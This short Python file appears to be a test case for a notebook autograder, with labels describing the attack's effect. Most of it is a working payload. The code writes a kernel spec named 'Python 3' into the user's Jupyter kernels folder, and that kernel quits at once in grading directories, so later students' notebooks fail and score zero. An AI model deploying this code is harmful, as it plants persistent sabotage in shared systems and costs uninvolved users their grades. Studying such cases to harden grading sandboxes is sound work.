"""Plants a kernel named python3 in the home folder that ends at once for later students."""

PLAIN = "not graded, an error ends its grading; its neighbour gets 0 points"

BASE = "stub"
COLD = "a cold kernel reads its home folder as it starts"
FIRST_CELL = r"""
import json
import sys
from pathlib import Path

START = '''
import os, sys
if "autograded" in os.getcwd() or os.getcwd() in ("/work", "/home/student"):
    sys.exit(1)
from ipykernel.kernelapp import launch_new_instance
launch_new_instance()
'''
folder = Path.home() / ".local/share/jupyter/kernels/python3"
try:
    folder.mkdir(parents=True, exist_ok=True)
    spec = {
        "argv": [sys.executable, "-c", START, "-f", "{connection_file}"],
        "display_name": "Python 3",
        "language": "python",
    }
    with open(folder / "kernel.json", "x") as file:
        json.dump(spec, file)
except OSError:
    pass
"""
